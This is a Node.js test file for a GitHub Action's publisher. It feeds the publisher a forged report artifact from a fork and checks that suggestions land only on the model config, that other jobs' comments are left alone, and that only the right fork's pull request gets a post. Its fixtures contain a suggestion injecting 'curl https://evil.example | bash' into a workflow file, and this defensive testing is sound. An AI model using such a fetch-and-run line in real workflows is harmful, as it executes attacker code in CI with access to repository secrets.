// The workflow_run publisher against a forged artifact, as GitHub runs it: dist/publish.js as a real
// process against the fake GitHub server. The artifact comes from a fork's run, so everything in it is
// the fork's claim: suggestions only land on config files of the report that the diff shows, the
// comment says whose report it is, the sticky-comment key is the publisher's own, and the pull request
// is the one whose head repository, not just head commit, is the run's. Build first (`npm run build`).
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { FakeGitHub, type FakeFile } from './fake-github/server.ts';
import { addedFilePatch, makeWorkspace, OUTPUT_LAYER_LINE, OWNER, REPO, REPO_ROOT, runAction, SOFTMAX_CONFIG } from './harness.ts';
import { makeZip } from './zip-writer.ts';
import { buildReport } from '../../src/report/build.ts';
import { renderJson } from '../../src/report/json.ts';
import type { Finding } from '../../src/checks/types.ts';

const FORK = 'forker/models';
const FORK_HEAD = 'e'.repeat(40);
const WORKFLOW = '.github/workflows/ci.yml';
const WORKFLOW_PATCH = '@@ -1,3 +1,3 @@\n name: ci\n-on: push\n+on: [push, pull_request]\n jobs: {}';
const OWN_MARKER = '<!-- nn-preflight:preflight -->';
const OTHER_MARKER = '<!-- nn-preflight:gpu-job -->';

before(() => {
  assert.ok(existsSync(path.join(REPO_ROOT, 'dist/publish.js')), 'dist/publish.js is missing: run `npm run build` first');
});

function finding(file: string, line: number, replacement: string): Finding {
  return {
    id: 'output-activation-mismatch',
    severity: 'error',
    title: 'Output activation does not fit the loss',
    message: 'softmax over one unit always outputs 1',
    fix: 'Use sigmoid.',
    file,
    line,
    docs: 'docs/checks/output-activation-mismatch.md',
    evidence: {},
    suggestion: { line, replacement },
  };
}

function runEvent(id: number, headRepository: string) {
  return {
    action: 'completed',
    workflow_run: {
      id,
      head_sha: FORK_HEAD,
      head_repository: { full_name: headRepository },
      event: 'pull_request',
      html_url: `https://github.com/${OWNER}/${REPO}/actions/runs/${id}`,
      pull_requests: [],
    },
  };
}

describe('a forged artifact from a fork', () => {
  const workspace = makeWorkspace();
  const config = readFileSync(path.join(workspace, SOFTMAX_CONFIG), 'utf8');
  const files: FakeFile[] = [
    { filename: SOFTMAX_CONFIG, status: 'added', patch: addedFilePatch(config) },
    { filename: WORKFLOW, status: 'modified', patch: WORKFLOW_PATCH },
  ];
  const report = buildReport(
    [
      {
        config: SOFTMAX_CONFIG,
        name: 'softmax-one-unit',
        findings: [
          finding(SOFTMAX_CONFIG, OUTPUT_LAYER_LINE, '    - {type: dense, units: 1, activation: sigmoid}'),
          // a finding of the config's result that points its "fix" at the workflow file
          finding(WORKFLOW, 2, 'on: [push, pull_request]; run: curl https://evil.example | bash'),
        ],
      },
      // a result that claims the workflow file is a config
      { config: WORKFLOW, name: 'ci', findings: [finding(WORKFLOW, 2, 'run: curl https://evil.example | bash')] },
    ],
    'error',
    '0.1.0',
  );
  const zip = makeZip({
    'report.json': renderJson(report),
    // aims at the sticky comment of another job
    'publish-context.json': JSON.stringify({ key: 'gpu-job', workingDirectory: '.', headSha: FORK_HEAD }),
  });
  const server = new FakeGitHub({
    owner: OWNER,
    repo: REPO,
    pulls: [
      // a second pull request with the same head commit, opened from another fork: listed first
      { number: 30, headSha: FORK_HEAD, headRepo: 'mallory/models', state: 'open', files },
      { number: 31, headSha: FORK_HEAD, headRepo: FORK, state: 'open', files },
    ],
    artifacts: [{ runId: 901, id: 91, name: 'nn-preflight-report', zip }],
  });
  before(async () => {
    await server.start();
    server.issueComments.set(31, [{ id: 5, body: `${OTHER_MARKER}\nThe gpu job's report.`, user: { login: 'github-actions[bot]', type: 'Bot' } }]);
  });
  after(() => server.stop());

  test('posts on the pull request from the run head repository, with suggestions only on the config, under its own key and the run named', async () => {
    const result = await runAction({
      apiUrl: server.url,
      workspace,
      eventName: 'workflow_run',
      event: runEvent(901, FORK),
      sha: 'b'.repeat(40),
      entry: 'publish.js',
      job: 'publish',
    });
    assert.equal(result.code, 0, result.stdout + result.stderr);
    assert.equal(result.outputs['pull-request'], '31');
    assert.equal(server.issueComments.get(30), undefined, "nothing on the other fork's pull request");
    assert.equal(server.reviewComments.get(30), undefined);

    const review = server.reviewComments.get(31) ?? [];
    assert.deepEqual(
      review.map((c) => `${c.path}:${c.line}`),
      [`${SOFTMAX_CONFIG}:${OUTPUT_LAYER_LINE}`],
    );
    assert.match(
      review[0].body,
      /^_Reported by \[run 901\]\(https:\/\/github\.com\/octo\/models\/actions\/runs\/901\) of the pull request's head commit `eeeeeeeeeeee` from the fork `forker\/models`\./,
    );

    const comments = server.issueComments.get(31) ?? [];
    assert.equal(comments.length, 2, "the gpu job's comment is left alone and a comment of the publisher's own key is added");
    assert.equal(comments[0].body, `${OTHER_MARKER}\nThe gpu job's report.`);
    const own = comments[1].body;
    assert.ok(own.startsWith(OWN_MARKER), own.slice(0, 200));
    assert.match(own, /Reported by \[run 901\].* from the fork `forker\/models`\. This workflow posted that report without checking anything itself/);
    assert.doesNotMatch(own, /curl/, 'a suggestion for the workflow file does not reach the comment either');
  });

  test('an event whose head repository opened no pull request posts nothing', async () => {
    const writes = server.writes().length;
    const result = await runAction({
      apiUrl: server.url,
      workspace,
      eventName: 'workflow_run',
      event: runEvent(901, 'someone/else'),
      sha: 'b'.repeat(40),
      entry: 'publish.js',
      job: 'publish',
    });
    assert.equal(result.code, 0, result.stdout + result.stderr);
    assert.match(result.stdout, /No open pull request has eeeeeeeeeeee from someone\/else as its head/);
    assert.equal(server.writes().length, writes);
  });
});
